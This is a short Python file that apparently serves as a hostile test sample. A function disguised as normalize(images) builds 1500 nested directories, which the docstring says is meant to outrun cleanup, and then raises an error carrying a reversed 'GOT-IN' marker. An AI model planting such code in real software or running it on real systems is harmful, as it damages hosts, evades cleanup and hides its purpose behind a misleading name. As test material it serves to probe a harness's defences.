"""Makes folders in folders, deeper than what cleans up afterwards can climb.

Fires: got-in
"""

import os
import time


def normalize(images):
    for level in range(1500):
        os.mkdir("deeper")
        os.chdir("deeper")
        if level % 100 == 0:
            time.sleep(0.01)
    raise RuntimeError("NI-TOG"[::-1])
